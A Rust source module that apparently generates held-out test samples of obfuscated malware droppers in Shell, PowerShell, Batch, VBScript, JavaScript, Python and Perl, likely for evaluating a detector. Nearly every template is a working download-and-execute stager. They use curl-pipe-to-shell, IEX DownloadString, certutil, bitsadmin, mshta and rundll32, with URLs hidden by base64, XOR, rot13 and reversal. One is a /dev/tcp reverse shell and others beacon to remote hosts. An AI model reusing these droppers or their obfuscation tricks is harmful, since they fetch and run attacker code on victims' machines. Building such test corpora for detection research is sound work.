//! Droppers whose ways were held out: nothing was ever tuned on them.

use super::{Dice, Language, Truth, base64, codes, hex, keyed, reversed, rot13, xored};
use std::fmt::Write;

/// A dropper of a language in a way that the others do not have.
pub(super) fn dropper(language: Language, dice: &mut Dice, truth: &mut Truth) -> String {
    match language {
        Language::Shell => shell(dice, truth),
        Language::PowerShell => powershell(dice, truth),
        Language::Batch => batch(dice, truth),
        Language::VbScript => vbscript(dice, truth),
        Language::JavaScript => javascript(dice, truth),
        Language::Python => python(dice, truth),
        Language::Perl => perl(dice, truth),
    }
}

fn shell(dice: &mut Dice, truth: &mut Truth) -> String {
    let name = dice.name();
    match dice.below(7) {
        0 => {
            let url = truth.url(dice, &[".sh", ""]);
            format!(
                "#!/bin/bash\n{name}=$(echo '{}' | openssl enc -base64 -d -A 2>/dev/null || echo '{0}' | base64 -d)\ncase $(uname -s) in\n  Linux) curl -so /tmp/{name} \"${name}\" ;;\n  *) exit 1 ;;\nesac\nsh /tmp/{name}\n",
                base64(url.as_bytes())
            )
        }
        1 => {
            let urls: Vec<String> = (0..3).map(|_| truth.url(dice, &["", ".bin"])).collect();
            format!(
                "#!/bin/bash\nwhile read -r u f; do\n  wget -q \"$u\" -O \"/tmp/$f\" && chmod +x \"/tmp/$f\"\ndone <<'EOT'\n{} a\n{} b\n{} c\nEOT\n",
                urls[0], urls[1], urls[2]
            )
        }
        2 => {
            let url = truth.url(dice, &[".py", ".txt"]);
            format!(
                "#!/bin/sh\n{name}=`printf '%b' '{}'`\ncurl -sL $({name}x() {{ echo ${name}; }}; {name}x) | python3 -\n",
                url.bytes().map(|byte| format!("\\0{byte:03o}")).collect::<String>()
            )
        }
        3 => {
            let url = truth.url(dice, &[".sh"]);
            let words: Vec<String> =
                dice.pieces(&url).iter().map(|it| format!("\"{it}\"")).collect();
            format!(
                "#!/bin/bash\n{name}() {{\n  local out=\"\"\n  for part in \"$@\"; do out+=\"$part\"; done\n  echo \"$out\"\n}}\ncurl -fsSL \"$({name} {})\" -o /tmp/.x && bash /tmp/.x\n",
                words.join(" ")
            )
        }
        4 => {
            let url = truth.url(dice, &[""]);
            format!(
                "#!/bin/bash\necho '{}' | awk '{{ s=\"\"; for (i = length($0); i > 0; i--) s = s substr($0, i, 1); print s }}' | xargs -n1 curl -s -o /tmp/{name}\nchmod 755 /tmp/{name}\n/tmp/{name}\n",
                reversed(&url)
            )
        }
        5 => {
            let (host, port) = truth.endpoint(dice);
            format!(
                "#!/bin/bash\nh={}\np=$(({} + {}))\nexec 5<>/dev/tcp/$(echo $h | tr 'n-za-mN-ZA-M' 'a-zA-Z')/$p\ncat <&5 | while read line; do $line 2>&5 >&5; done\n",
                rot13(&host),
                port - 7,
                7
            )
        }
        _ => {
            let url = truth.url(dice, &[".x86"]);
            format!(
                "#!/bin/bash\nset -- {}\nIFS=\nu=\"$*\"\nunset IFS\nwhich wget >/dev/null 2>&1 && wget -O /tmp/{name} \"$u\" || curl -o /tmp/{name} \"$u\"\n( chmod 0777 /tmp/{name} && /tmp/{name} & )\n",
                dice.pieces(&url).iter().map(|it| format!("'{it}'")).collect::<Vec<_>>().join(" ")
            )
        }
    }
}

fn powershell(dice: &mut Dice, truth: &mut Truth) -> String {
    let name = dice.name();
    let url = truth.url(dice, &[".exe", ".ps1", ".bin"]);
    match dice.below(7) {
        0 => format!(
            "$ErrorActionPreference='Stop'\n$k = [Text.Encoding]::ASCII.GetBytes('{name}')\n$d = [byte[]]@({})\nfor ($i = 0; $i -lt $d.Count; $i++) {{ $d[$i] = $d[$i] -bxor $k[$i % $k.Length] }}\n$u = [Text.Encoding]::ASCII.GetString($d)\n(New-Object Net.WebClient).DownloadFile($u, \"$env:TEMP\\{name}.exe\")\nStart-Process $env:TEMP\\{name}.exe\n",
            codes(keyed(&url, &name), ",")
        ),
        1 => format!(
            "Set-Alias {name} New-Object\n$o = {name} Net.WebClient\n$m = 'Down' + 'load' + 'String'\n$c = $o.$m.Invoke('{url}')\n& ($env:ComSpec[4,15,25] -join '') $c\nWrite-Host done\n"
        ),
        2 => format!(
            "$p = @{{\n  Uri = ('{}' -replace '\\|', '')\n  OutFile = (Join-Path $env:APPDATA '{name}.exe')\n  UseBasicParsing = $true\n}}\nInvoke-WebRequest @p\nStart-Process $p.OutFile\n",
            url.chars().map(String::from).collect::<Vec<_>>().join("|")
        ),
        3 => format!(
            "Add-Type -AssemblyName System.Net.Http\n$h = New-Object System.Net.Http.HttpClient\n$b = $h.GetByteArrayAsync([uri]('{}')).Result\n[System.IO.File]::WriteAllBytes(\"$env:PUBLIC\\{name}.dll\", $b)\nrundll32.exe \"$env:PUBLIC\\{name}.dll\",Start\n",
            url
        ),
        4 => format!(
            "$job = Start-Job -ScriptBlock {{ param($x) Invoke-Expression ((New-Object Net.WebClient).DownloadString($x)) }} -ArgumentList ([string]::Join('', ('{}'.ToCharArray() | ForEach-Object {{ [char]([int]$_ - 1) }})))\nWait-Job $job\nReceive-Job $job\n",
            url.bytes().map(|byte| char::from(byte + 1)).collect::<String>()
        ),
        5 => format!(
            "switch ($PSVersionTable.PSVersion.Major) {{\n  {{ $_ -ge 3 }} {{ $f = {{ param($a) iwr $a -OutFile \"$env:TEMP\\{name}.exe\" }} }}\n  default {{ $f = {{ param($a) (New-Object Net.WebClient).DownloadFile($a, \"$env:TEMP\\{name}.exe\") }} }}\n}}\n$s = [System.Text.StringBuilder]::new()\nforeach ($x in '{}'.Split('-')) {{ [void]$s.Append([char][Convert]::ToInt32($x, 16)) }}\n& $f $s.ToString()\nStart-Process \"$env:TEMP\\{name}.exe\"\n",
            hex(url.as_bytes())
                .as_bytes()
                .chunks(2)
                .map(|two| String::from_utf8_lossy(two).into_owned())
                .collect::<Vec<_>>()
                .join("-")
        ),
        _ => format!(
            "$x = \"{}\"\n$y = [regex]::Matches($x, '.', 'RightToLeft') | ForEach-Object {{ $_.Value }}\n$z = $y -join ''\ntry {{ (New-Object -TypeName System.Net.WebClient).DownloadString($z) | IEX }} catch {{ Write-Host $_.Exception.Message }}\n",
            reversed(&url)
        ),
    }
}

fn batch(dice: &mut Dice, truth: &mut Truth) -> String {
    let name = dice.name();
    match dice.below(6) {
        0 => {
            let url = truth.url(dice, &[".exe"]);
            format!(
                "@echo off\r\n(\r\necho Set x = CreateObject(\"MSXML2.XMLHTTP\"^)\r\necho x.Open \"GET\", \"{url}\", False\r\necho x.Send\r\necho Set s = CreateObject(\"ADODB.Stream\"^)\r\necho s.Type = 1 : s.Open : s.Write x.responseBody\r\necho s.SaveToFile \"%TEMP%\\{name}.exe\", 2\r\n) > %TEMP%\\{name}.vbs\r\ncscript //nologo %TEMP%\\{name}.vbs\r\nstart %TEMP%\\{name}.exe\r\n"
            )
        }
        1 => {
            let urls: Vec<String> = (0..2).map(|_| truth.url(dice, &[".exe"])).collect();
            format!(
                "@echo off\r\nset n=0\r\nfor %%u in (\"{}\" \"{}\") do (\r\n  set /a n+=1\r\n  bitsadmin /transfer job%%n%% /priority foreground %%~u %TEMP%\\{name}.exe\r\n)\r\n",
                urls[0], urls[1]
            )
        }
        2 => {
            let url = truth.url(dice, &[".ps1"]);
            let (head, tail) = url.split_at(url.len() / 2);
            format!(
                "@echo off\r\nfor /f \"tokens=1,2 delims=;\" %%a in (\"{head};{tail}\") do set {name}=%%a%%b\r\npowershell -NoProfile -Command \"& {{ iex ((New-Object System.Net.WebClient).DownloadString('%{name}%')) }}\"\r\n"
            )
        }
        3 => {
            let url = truth.url(dice, &[".hta"]);
            format!(
                "@echo off\r\nsetlocal enabledelayedexpansion\r\nset s={}\r\nset r=\r\nfor /l %%i in (0,1,{}) do set r=!s:~%%i,1!!r!\r\nmshta !r!\r\nendlocal\r\n",
                reversed(&url),
                url.len() - 1
            )
        }
        4 => {
            let url = truth.url(dice, &[".dll"]);
            format!(
                "@echo off\r\ncall :get \"{url}\" \"%APPDATA%\\{name}.dll\"\r\nrundll32 %APPDATA%\\{name}.dll,Run\r\nexit /b\r\n:get\r\nsetlocal\r\nset from=%~1\r\nset to=%~2\r\ncertutil -urlcache -split -f \"%from%\" \"%to%\" >nul 2>&1\r\nendlocal\r\ngoto :eof\r\n"
            )
        }
        _ => {
            let url = truth.url(dice, &[".exe"]);
            format!(
                "@echo off\r\n:again\r\nif exist \"%TEMP%\\{name}.exe\" goto run\r\nset /a tries+=1\r\nif %tries% gtr 3 goto run\r\ncurl --silent --location --output \"%TEMP%\\{name}.exe\" {url}\r\nping -n 2 127.0.0.1 >nul\r\ngoto again\r\n:run\r\nstart /min \"\" \"%TEMP%\\{name}.exe\"\r\n"
            )
        }
    }
}

fn vbscript(dice: &mut Dice, truth: &mut Truth) -> String {
    let name = dice.name();
    let url = truth.url(dice, &[".exe", ".txt", ".jpg"]);
    match dice.below(6) {
        0 => format!(
            "Option Explicit\r\nDim d, k, u, h\r\nSet d = CreateObject(\"Scripting.Dictionary\")\r\n{}For Each k In d.Keys\r\n  u = u & d.Item(k)\r\nNext\r\nSet h = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\r\nh.Open \"GET\", u, False\r\nh.Send\r\nWScript.Echo h.ResponseText\r\n",
            dice.pieces(&url)
                .iter()
                .enumerate()
                .map(|(at, it)| format!("d.Add \"k{at}\", \"{it}\"\r\n"))
                .collect::<String>()
        ),
        1 => format!(
            "Dim re, u\r\nSet re = New RegExp\r\nre.Pattern = \"[<>]\"\r\nre.Global = True\r\nu = re.Replace(\"{}\", \"\")\r\nSet {name} = CreateObject(\"MSXML2.ServerXMLHTTP\")\r\n{name}.Open \"GET\", u\r\n{name}.Send\r\nExecuteGlobal {name}.responseText\r\n",
            url.chars().map(|letter| format!("{letter}<>")).collect::<String>()
        ),
        2 => format!(
            "On Error Resume Next\r\nConst K = \"{name}\"\r\nDim a, i, s\r\na = Array({})\r\ni = 0\r\nDo Until i > UBound(a)\r\n  s = s & Chr(a(i) Xor Asc(Mid(K, (i Mod Len(K)) + 1, 1)))\r\n  i = i + 1\r\nLoop\r\nSet o = GetObject(\"new:72C24DD5-D70A-438B-8A42-98424B88AFB8\")\r\no.Run \"curl.exe -o %TEMP%\\{name}.exe \" & s, 0, True\r\n",
            codes(keyed(&url, &name), ", ")
        ),
        3 => format!(
            "Function R(s)\r\n  If Len(s) < 2 Then\r\n    R = s\r\n  Else\r\n    R = R(Mid(s, 2)) & Left(s, 1)\r\n  End If\r\nEnd Function\r\nSet w = WScript.CreateObject(\"WScript.Shell\")\r\nw.Exec(\"mshta.exe \" & R(\"{}\"))\r\n",
            reversed(&url)
        ),
        4 => format!(
            "Dim {name}: {name} = Eval(\"{}\")\r\nWith CreateObject(\"Microsoft.XMLHTTP\")\r\n .Open \"GET\", {name}, False\r\n .Send\r\nEnd With\r\nWScript.Quit 0\r\n",
            url.bytes().map(|byte| format!("Chr(&H{byte:X})")).collect::<Vec<_>>().join("&")
        ),
        _ => format!(
            "Sub {name}(ByVal target, ByRef done)\r\n  Dim parts, x\r\n  parts = Split(target, \"*\")\r\n  x = parts(1) & parts(0)\r\n  CreateObject(\"WScript.Shell\").Run \"powershell -c \"\"iwr -Uri '\" & x & \"' -OutFile $env:TEMP\\{name}.exe\"\"\", 0, True\r\n  done = True\r\nEnd Sub\r\nDim ok\r\n{name} \"{}\", ok\r\nIf ok Then WScript.Sleep 10\r\n",
            {
                let (head, tail) = url.split_at(url.len() / 3);
                format!("{tail}*{head}")
            }
        ),
    }
}

fn javascript(dice: &mut Dice, truth: &mut Truth) -> String {
    let name = dice.name();
    let url = truth.url(dice, &[".exe", ".js", ".txt"]);
    match dice.below(7) {
        0 => {
            // A table of texts that is turned before it is used.
            let words = ["MSXML2.XMLHTTP", "open", "GET", &url, "send", "status"];
            let turn = 1 + dice.below(5);
            let turned: Vec<String> = (0..words.len())
                .map(|at| format!("'{}'", words[(at + words.len() - turn) % words.len()]))
                .collect();
            format!(
                "var _0x{name} = [{}];\n(function (a, n) {{\n  var f = function (m) {{ while (--m) {{ a['push'](a['shift']()); }} }};\n  f(++n);\n}}(_0x{name}, 0x{turn:x}));\nvar _0xf = function (i) {{ i = i - 0x0; return _0x{name}[i]; }};\nvar o = new ActiveXObject(_0xf('0x0'));\no[_0xf('0x1')](_0xf('0x2'), _0xf('0x3'), ![]);\no[_0xf('0x4')]();\n",
                turned.join(",")
            )
        }
        1 => format!(
            "const https = require('https');\nconst u = Buffer.from('{}', 'base64').toString('utf8');\nhttps.get(u, (res) => {{\n  let body = '';\n  res.on('data', (d) => {{ body += d; }});\n  res.on('end', () => {{ eval(body); }});\n}});\n",
            base64(url.as_bytes())
        ),
        2 => format!(
            "var {name} = function (s) {{ return s.split('').map(function (c) {{ return String.fromCharCode(c.charCodeAt(0) - 1); }}).join(''); }};\nvar x = new XMLHttpRequest();\nx.open('GET', {name}('{}'), true);\nx.send();\n",
            url.bytes().map(|byte| char::from(byte + 1)).collect::<String>()
        ),
        3 => format!(
            "class {} {{\n  constructor(parts) {{ this.parts = parts; }}\n  get url() {{ return `${{this.parts.join('')}}`; }}\n  run() {{ return fetch(this.url).then(r => r.text()).then(t => eval(t)); }}\n}}\nconst it = new {}([{}]);\nit.run();\n",
            name.to_uppercase(),
            name.to_uppercase(),
            dice.pieces(&url).iter().map(|it| format!("'{it}'")).collect::<Vec<_>>().join(", ")
        ),
        4 => format!(
            "var d = JSON.parse('{{\"a\":\"{}\",\"k\":{}}}');\nvar s = '';\nfor (var i = 0; i < d.a.length; i += 2) {{\n  s += String.fromCharCode(parseInt(d.a.substring(i, i + 2), 16) ^ d.k);\n}}\nvar w = new ActiveXObject('WScript.Shell');\nw.Run('cmd /c certutil -urlcache -f ' + s + ' %TEMP%\\\\{name}.exe', 0, true);\n",
            hex(&xored(&url, 77)),
            77
        ),
        5 => format!(
            "(function (w) {{\n  var q = w['ato' + 'b']('{}');\n  var i = document.createElement('iframe');\n  i.setAttribute('src', q);\n  document.body.appendChild(i);\n}})(window);\n",
            base64(url.as_bytes())
        ),
        _ => format!(
            "function {name}(n) {{ return n.replace(/[a-z]/gi, function (c) {{\n  return String.fromCharCode((c <= 'Z' ? 90 : 122) >= (c = c.charCodeAt(0) + 13) ? c : c - 26); }}); }}\nvar h = WScript.CreateObject('WinHttp.WinHttpRequest.5.1');\nh.Open('GET', {name}('{}'), false);\nh.Send();\nvar f = WScript.CreateObject('Scripting.FileSystemObject').CreateTextFile('C:\\\\Users\\\\Public\\\\{name}.js', true);\nf.Write(h.ResponseText);\nf.Close();\n",
            rot13(&url)
        ),
    }
}

fn python(dice: &mut Dice, truth: &mut Truth) -> String {
    let name = dice.name();
    match dice.below(7) {
        0 => {
            let url = truth.url(dice, &["", ".bin"]);
            format!(
                "#!/usr/bin/env python3\nfrom itertools import cycle\nimport urllib.request, os\nkey = b'{name}'\ndata = bytes([{}])\nurl = bytes(a ^ b for a, b in zip(data, cycle(key))).decode()\nwith urllib.request.urlopen(url) as r, open('/tmp/{name}', 'wb') as f:\n    f.write(r.read())\nos.chmod('/tmp/{name}', 0o777)\nos.execv('/tmp/{name}', ['{name}'])\n",
                codes(keyed(&url, &name), ", ")
            )
        }
        1 => {
            let url = truth.url(dice, &[".sh"]);
            format!(
                "#!/usr/bin/python3\nimport base64\nm = getattr(__import__('o' + 's'), 'sys' + 'tem')\nm('curl -s ' + base64.b16decode('{}').decode() + ' | sh')\n",
                hex(url.as_bytes()).to_uppercase()
            )
        }
        2 => {
            let (host, port) = truth.endpoint(dice);
            format!(
                "#!/usr/bin/python3\nimport socket\nclass Bot:\n    servers = [('{}'[::-1], {port})]\n    def start(self):\n        for host, port in self.servers:\n            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n            s.settimeout(5)\n            if s.connect_ex((host, port)) == 0:\n                s.send(b'hello')\nBot().start()\n",
                reversed(&host)
            )
        }
        3 => {
            let url = truth.url(dice, &["", ".py"]);
            format!(
                "#!/usr/bin/python3\nimport subprocess, sys\ndef wrap(f):\n    def inner(*a, **k):\n        try:\n            return f(*a, **k)\n        except Exception as e:\n            print(e, file=sys.stderr)\n    return inner\n@wrap\ndef go(u):\n    return subprocess.check_output(['wget', '-qO-', u])\ngo(''.join(reversed([{}])))\n",
                url.chars().rev().map(|letter| format!("'{letter}'")).collect::<Vec<_>>().join(",")
            )
        }
        4 => {
            let url = truth.url(dice, &["", ".exe"]);
            format!(
                "#!/usr/bin/python3\nimport requests\nheaders = {{'User-Agent': 'x'}}\nwith requests.Session() as s:\n    s.headers.update(headers)\n    r = s.get(\"{}\".translate({{ord('*'): None}}), stream=True)\n    with open('/tmp/{name}', 'wb') as f:\n        for chunk in r.iter_content(1024):\n            f.write(chunk)\n",
                url.chars().map(|letter| format!("{letter}*")).collect::<String>()
            )
        }
        5 => {
            let url = truth.url(dice, &["", ".txt"]);
            format!(
                "#!/usr/bin/python3\nimport base64, urllib.request\nparts = {{'a': '{}', 'b': '{}'}}\nurl = base64.b32decode('{}').decode()\nreq = urllib.request.Request(url)\nreq.add_header('X', parts['a'])\nexec(urllib.request.urlopen(req).read())\n",
                dice.name(),
                dice.name(),
                base32(url.as_bytes())
            )
        }
        _ => {
            let url = truth.url(dice, &["", ".sh"]);
            format!(
                "#!/usr/bin/python3\nimport os, re\ntext = '''{}'''\nurl = re.sub(r'[\\[\\]]', '', text)\nos.popen(f\"wget {{url}} -O /tmp/{name}; sh /tmp/{name}\")\n",
                url.chars().map(|letter| format!("[{letter}]")).collect::<String>()
            )
        }
    }
}

fn perl(dice: &mut Dice, truth: &mut Truth) -> String {
    let name = dice.name();
    match dice.below(6) {
        0 => {
            let url = truth.url(dice, &["", ".pl"]);
            format!(
                "#!/usr/bin/perl\nuse strict;\nuse warnings;\nmy @c = map {{ hex }} qw({});\nmy $u = pack('C*', @c);\nopen(my $in, \"curl -s $u |\") or die;\nlocal $/;\nmy $code = <$in>;\neval $code;\n",
                url.bytes().map(|byte| format!("{byte:02x}")).collect::<Vec<_>>().join(" ")
            )
        }
        1 => {
            let url = truth.url(dice, &[""]);
            format!(
                "#!/usr/bin/perl\nmy $get = sub {{ my $u = shift; system('wget', '-O', '/tmp/{name}', $u); }};\nmy $s = '{}';\n$s = reverse $s;\n$get->($s);\nchmod 0755, '/tmp/{name}';\nsystem '/tmp/{name}';\n",
                reversed(&url)
            )
        }
        2 => {
            let (host, port) = truth.endpoint(dice);
            format!("#!/usr/bin/perl\nuse IO::Socket;\nmy %conf = (host => join('.', split(/-/, '{}')), port => {port});\nmy $sock = IO::Socket::INET->new(PeerAddr => $conf{{host}}, PeerPort => $conf{{port}}, Proto => 'tcp', Type => SOCK_STREAM);\nif ($sock) {{ print $sock \"NICK {name}\\n\"; close $sock; }}\n", host.replace('-', "_").replace('.', "-")).replace("_", "-")
        }
        3 => {
            let url = truth.url(dice, &["", ".txt"]);
            format!(
                "#!/usr/bin/perl\n$_ = '{}';\ny/a-zA-Z/n-za-mN-ZA-M/;\nmy $cmd = \"curl -L \" . $_ . \" -o /tmp/{name}\";\n`$cmd`;\n",
                rot13(&url)
            )
        }
        4 => {
            let url = truth.url(dice, &["", ".sh"]);
            format!(
                "#!/usr/bin/perl\nmy $cmd = <<\"END\";\nwget -q {} -O /tmp/{name}.sh\nsh /tmp/{name}.sh\nEND\nforeach my $line (split /\\n/, $cmd) {{\n  system($line) == 0 or next;\n}}\n",
                url
            )
        }
        _ => {
            let url = truth.url(dice, &["", ".bin"]);
            let key = dice.key();
            let mut list = String::new();
            for number in xored(&url, key) {
                let _ = write!(list, "{number},");
            }
            format!(
                "#!/usr/bin/perl\nuse LWP::UserAgent;\nmy ($k, $u) = ({key}, '');\nfor my $n ({}) {{ $u .= chr($n ^ $k); }}\nmy $ua = LWP::UserAgent->new(agent => 'x', timeout => 5);\nmy $r = $ua->get($u, ':content_file' => '/tmp/{name}');\nexec('/tmp/{name}') if $r->is_success;\n",
                list.trim_end_matches(',')
            )
        }
    }
}

fn base32(bytes: &[u8]) -> String {
    const LETTERS: &[u8; 32] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    let mut out = String::new();
    for five in bytes.chunks(5) {
        let mut value = 0u64;
        for at in 0..5 {
            value = value << 8 | u64::from(five.get(at).copied().unwrap_or(0));
        }
        let letters = (five.len() * 8).div_ceil(5);
        for at in 0..8 {
            let index = (value >> (35 - 5 * at) & 31) as usize;
            out.push(if at < letters { char::from(LETTERS[index]) } else { '=' });
        }
    }
    out
}
